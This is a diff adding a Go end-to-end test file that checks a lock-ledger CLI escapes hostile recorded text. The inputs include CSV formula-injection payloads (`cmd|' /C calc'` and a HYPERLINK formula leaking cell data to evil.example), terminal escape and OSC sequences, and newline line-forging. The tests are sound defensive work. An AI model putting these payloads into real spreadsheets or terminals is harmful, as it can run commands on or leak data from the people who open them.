@@ -1,0 +1,311 @@
+package e2e
+
+import (
+	"bytes"
+	"context"
+	"database/sql"
+	"encoding/csv"
+	"encoding/json"
+	"encoding/xml"
+	"errors"
+	"io"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+
+	"github.com/lockledger/lockledger/events"
+	"github.com/lockledger/lockledger/internal/clitest"
+	"github.com/lockledger/lockledger/internal/fixture"
+	"github.com/lockledger/lockledger/ledger"
+)
+
+// forgedLine begins the line that a hostile field tries to add to a
+// report; no line of any output may begin with it.
+const forgedLine = "FORGED"
+
+// rawControl names the first character of s that a terminal would act
+// on, other than the newline ending a line: a C0 or C1 control
+// character, DEL, or a byte that is not UTF-8. "" if none.
+func rawControl(s string) string {
+	for i, r := range s {
+		switch {
+		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"):
+			return strconv.Quote(s[i:min(i+1, len(s))]) + " at byte " + strconv.Itoa(i)
+		case r == '\n':
+		case r < 0x20, r >= 0x7f && r < 0xa0:
+			return strconv.QuoteRune(r) + " at byte " + strconv.Itoa(i)
+		}
+	}
+	return ""
+}
+
+// assertPlainText fails unless out is plain lines: no control character a
+// terminal would act on, and no line that a field forged.
+func assertPlainText(t *testing.T, what, out string) {
+	t.Helper()
+	if c := rawControl(out); c != "" {
+		t.Errorf("%s prints a raw control character (%s):\n%q", what, c, out)
+	}
+	for _, l := range strings.Split(out, "\n") {
+		if strings.HasPrefix(strings.TrimSpace(l), forgedLine) {
+			t.Errorf("%s prints a line forged by a recorded field: %q", what, l)
+		}
+	}
+}
+
+// TestHostileTextCSVCellsAreNeverFormulas: actors, a request id and an
+// intent chosen to run in a spreadsheet (OWASP's CSV injection) are
+// written by timeline, history and export as CSV cells a spreadsheet
+// reads as text (a leading '), while JSONL keeps their exact bytes and
+// verify still passes.
+func TestHostileTextCSVCellsAreNeverFormulas(t *testing.T) {
+	root := t.TempDir()
+	self := strconv.Itoa(os.Getpid())
+	actors := map[string]string{ // lock -> actor
+		"calc": `=cmd|' /C calc'!A0`,
+		"sum":  `+SUM(1+1)*cmd|' /C calc'!A0`,
+		"link": `@HYPERLINK("http://evil.example/?leak="&A1)`,
+		"neg":  `-2+3+cmd|' /C calc'!A0`,
+	}
+	const intent = `@HYPERLINK("http://evil.example/")`
+	for lock, actor := range actors {
+		clitest.Must(t, 0, root, "acquire", lock, "--actor", actor, "--intent", intent, "--pid", self)
+	}
+	clitest.Must(t, 0, root, "acquire", "req", "--request-id=-2-1", "--pid", self)
+
+	exported := filepath.Join(t.TempDir(), "ledger.csv")
+	clitest.Must(t, 0, root, "export", "--format", "csv", "-o", exported)
+	file, err := os.ReadFile(exported)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		what, out string
+		actorCol  int
+	}{
+		{"timeline --format csv", clitest.Must(t, 0, root, "timeline", "--format", "csv").Stdout, 4},
+		{"history --format csv", clitest.Must(t, 0, root, "history", "calc", "--format", "csv").Stdout, 4},
+		{"export --format csv", clitest.Must(t, 0, root, "export", "--format", "csv").Stdout, 6},
+		{"export --format csv -o", string(file), 6},
+	} {
+		rows, err := csv.NewReader(strings.NewReader(c.out)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v\n%s", c.what, err, c.out)
+		}
+		quoted := 0
+		for _, row := range rows[1:] {
+			for _, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: a cell a spreadsheet runs as a formula: %q", c.what, cell)
+				}
+			}
+			for _, actor := range actors {
+				if row[c.actorCol] == "'"+actor {
+					quoted++
+				}
+			}
+		}
+		if want := map[bool]int{true: 1, false: len(actors)}[strings.HasPrefix(c.what, "history")]; quoted != want {
+			t.Errorf("%s: %d actor cells read '<actor>, want %d:\n%s", c.what, quoted, want, c.out)
+		}
+	}
+
+	found := map[string]bool{}
+	for _, line := range strings.Split(strings.TrimSpace(clitest.Must(t, 0, root, "export").Stdout), "\n") {
+		var row struct {
+			Body struct {
+				LockName  string `json:"lock_name"`
+				Actor     string `json:"actor"`
+				RequestID string `json:"request_id"`
+				Intent    string `json:"intent"`
+			} `json:"body"`
+		}
+		if err := json.Unmarshal([]byte(line), &row); err != nil {
+			t.Fatal(err)
+		}
+		ev := row.Body
+		if a, ok := actors[ev.LockName]; ok && ev.Actor == a && ev.Intent == intent {
+			found[ev.LockName] = true
+		}
+		if ev.LockName == "req" && ev.RequestID == "-2-1" {
+			found["req"] = true
+		}
+	}
+	if len(found) != len(actors)+1 {
+		t.Errorf("the JSONL export keeps the exact values of %v only, want every lock of %v and req", found, actors)
+	}
+	clitest.Verify(t, 0, root)
+}
+
+// TestHostileTextHostIDIsRefused: a LOCKLEDGER_HOST_ID that would forge a
+// line in every report (a newline), drive the reader's terminal (ESC) or
+// be stored one way in the body and another in the row (not UTF-8) is
+// refused with exit 2 naming the variable and the rule, by writers and
+// readers alike, and the ledger is unchanged.
+func TestHostileTextHostIDIsRefused(t *testing.T) {
+	root := t.TempDir()
+	self := strconv.Itoa(os.Getpid())
+	clitest.Must(t, 0, root, "acquire", "first", "--pid", self)
+	before := snapLedger(t, root)
+	for _, c := range []struct{ id, rule string }{
+		{"evil\n" + forgedLine + " 1 2026-01-01 lock_released prod", "must not contain control characters"},
+		{"evil\x1b[2J\x1b[H", "must not contain control characters"},
+		{"evil\x1b]0;pwned\x07", "must not contain control characters"},
+		{"evil\xff\xfe", "must be valid UTF-8"},
+	} {
+		for _, args := range [][]string{{"acquire", "prod", "--pid", self}, {"run", "prod", "--", "true"}, {"list"}} {
+			r := clitest.RunWith(t, root, []string{ledger.HostIDEnv + "=" + c.id}, "", args...)
+			if r.Code != 2 || !strings.Contains(r.Stderr, ledger.HostIDEnv) || !strings.Contains(r.Stderr, c.rule) {
+				t.Errorf("%v with %s=%q: exit %d, want 2 naming %s and %q\nstdout: %s\nstderr: %s", args, ledger.HostIDEnv, c.id,
+					r.Code, ledger.HostIDEnv, c.rule, r.Stdout, r.Stderr)
+			}
+			assertPlainText(t, "the refusal", r.Stderr)
+		}
+	}
+	if after := snapLedger(t, root); after != before {
+		t.Errorf("refused host ids changed the ledger: %s, then %s", before, after)
+	}
+	clitest.Verify(t, 0, root)
+}
+
+// TestHostileTextRecordedFieldsAreEscaped: a ledger that already holds a
+// host id and an actor with a newline, ESC sequences and an OSC title
+// (written before host ids were checked), and paths of -o and verify
+// --file with ESC and newlines, is shown by every text report, the
+// timeline page and picture, the CSVs, and the refusal of a blocked
+// acquire with each control character escaped visibly: no forged line,
+// nothing the terminal acts on, an SVG that parses. The JSONL export keeps the exact
+// bytes, and verify passes.
+func TestHostileTextRecordedFieldsAreEscaped(t *testing.T) {
+	ctx := context.Background()
+	root := filepath.Join(t.TempDir(), "r")
+	l, err := ledger.Open(ctx, root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	host := l.Host()
+	if err := l.Close(); err != nil {
+		t.Fatal(err)
+	}
+	const (
+		hostID = "far\n" + forgedLine + " 2026-01-01T00:00:00Z lock_released prod\x1b[2J"
+		actor  = "bot\x1b]0;pwned\x07\r" + forgedLine + "\u009b31m"
+	)
+	at := time.Now().UTC()
+	ev := &events.Event{
+		Envelope: events.Envelope{EventID: events.NewULID(at), Type: events.LockAcquired, SchemaVersion: events.SchemaVersion,
+			At: events.FormatTime(at), LockName: "prod", RequestID: "req_far", Actor: actor, HostID: hostID, PID: 4242},
+		Payload: &events.Acquired{TTLSeconds: 3600, Intent: "deploy", IntentVersion: "1", FencingToken: 1,
+			Metadata: map[string]string{}, PIDStart: "1", BootID: host.BootID},
+	}
+	db, err := sql.Open("sqlite", "file:"+filepath.Join(root, ledger.DBFile))
+	if err != nil {
+		t.Fatal(err)
+	}
+	fixture.Append(t, db, ev)
+	if err := db.Close(); err != nil {
+		t.Fatal(err)
+	}
+	clitest.Must(t, 0, root, "project")
+
+	out := filepath.Join(t.TempDir(), "x\x1b[2J\n"+forgedLine+" export.jsonl")
+	clitest.Must(t, 0, root, "export", "-o", out)
+	exported, err := os.ReadFile(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Contains(exported, []byte(`"host_id":"far\n`+forgedLine)) || !bytes.Contains(exported, []byte(`"actor":"bot\u001b]0;pwned\u0007\r`)) {
+		t.Errorf("the JSONL export does not keep the recorded host id and actor exactly:\n%s", exported)
+	}
+	verified := clitest.Must(t, 0, root, "verify", "--file", out)
+	assertPlainText(t, "verify --file", verified.Stdout)
+	if !strings.Contains(verified.Stdout, `x\x1b[2J\n`+forgedLine) {
+		t.Errorf("verify --file does not show the path escaped:\n%s", verified.Stdout)
+	}
+
+	for _, args := range [][]string{
+		{"timeline"}, {"history", "prod"}, {"who", "prod"}, {"status", "prod"}, {"list"},
+		{"timeline", "--format", "svg"}, {"timeline", "--format", "html"}, {"timeline", "--format", "csv"}, {"export", "--format", "csv"},
+	} {
+		r := clitest.Must(t, 0, root, args...)
+		assertPlainText(t, strings.Join(args, " "), r.Stdout)
+		assertPlainText(t, strings.Join(args, " ")+" (stderr)", r.Stderr)
+		if args[len(args)-1] == "svg" {
+			dec := xml.NewDecoder(strings.NewReader(r.Stdout))
+			for {
+				if _, err := dec.Token(); errors.Is(err, io.EOF) {
+					break
+				} else if err != nil {
+					t.Errorf("timeline --format svg is not XML: %v", err)
+					break
+				}
+			}
+		}
+	}
+	if tl := clitest.Must(t, 0, root, "timeline").Stdout; !strings.Contains(tl, `far\n`+forgedLine) || !strings.Contains(tl, `x\x1b[2J\n`+forgedLine) {
+		t.Errorf("timeline does not show the host id and the -o path escaped:\n%s", tl)
+	}
+
+	blocked := clitest.Run(t, root, "acquire", "prod", "--pid", strconv.Itoa(os.Getpid()))
+	if blocked.Code != 3 || !strings.Contains(blocked.Stderr, `bot\x1b]0;pwned\x07\r`+forgedLine+`\u009b31m`) {
+		t.Errorf("acquire of the held lock: exit %d, want 3 with the actor escaped:\n%s", blocked.Code, blocked.Stderr)
+	}
+	assertPlainText(t, "acquire's refusal", blocked.Stderr)
+	clitest.Verify(t, 0, root)
+}
+
+// TestHostileTextForeignLockFile: another tool's lock file at a lock's
+// path whose actor carries an OSC sequence and a newline is shown by
+// status, list, the refusal of acquire (text and --json message), wait's
+// progress line and the timeline with the characters escaped.
+func TestHostileTextForeignLockFile(t *testing.T) {
+	root := t.TempDir()
+	self := strconv.Itoa(os.Getpid())
+	clitest.Must(t, 0, root, "acquire", "other", "--pid", self)
+	now := time.Now().UTC().Format(time.RFC3339)
+	host, _ := os.Hostname()
+	doc := `{"lock_version":"v1","lock_name":"odd","request_id":"req_foreign","actor":"tower\u001b]0;pwned\u0007\n` + forgedLine +
+		`","intent":"","intent_version":"","host_id":"` + host + `","pid":` + self + `,"created_at":"` + now +
+		`","last_heartbeat_at":"` + now + `","ttl_seconds":900}` + "\n"
+	if err := os.WriteFile(filepath.Join(root, "locks", "odd.lock"), []byte(doc), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		args []string
+		code int
+	}{
+		{[]string{"status", "odd"}, 0},
+		{[]string{"list"}, 0},
+		{[]string{"acquire", "odd", "--pid", self}, 3},
+		{[]string{"acquire", "odd", "--wait", "1s", "--pid", self}, 3},
+		{[]string{"timeline"}, 0},
+	} {
+		r := clitest.Run(t, root, c.args...)
+		if r.Code != c.code {
+			t.Errorf("%v: exit %d, want %d\n%s", c.args, r.Code, c.code, r.Stderr)
+		}
+		assertPlainText(t, strings.Join(c.args, " "), r.Stdout)
+		assertPlainText(t, strings.Join(c.args, " ")+" (stderr)", r.Stderr)
+		if !strings.Contains(r.Stdout+r.Stderr, `tower\x1b]0;pwned\x07\n`+forgedLine) {
+			t.Errorf("%v does not show the foreign actor escaped:\n%s%s", c.args, r.Stdout, r.Stderr)
+		}
+	}
+	r := clitest.Run(t, root, "acquire", "odd", "--json", "--pid", self)
+	var obj struct {
+		Message string `json:"message"`
+		HeldBy  struct {
+			Actor string `json:"actor"`
+		} `json:"held_by"`
+	}
+	if err := json.Unmarshal([]byte(strings.SplitN(r.Stdout, "\n", 2)[0]), &obj); err != nil {
+		t.Fatalf("acquire --json: %v\n%s", err, r.Stdout)
+	}
+	if obj.HeldBy.Actor != "tower\x1b]0;pwned\x07\n"+forgedLine || rawControl(obj.Message) != "" || strings.Contains(obj.Message, "\n") {
+		t.Errorf("acquire --json: held_by.actor %q (want the exact bytes), message %q (want it escaped)", obj.HeldBy.Actor, obj.Message)
+	}
+	clitest.Verify(t, 0, root)
+}
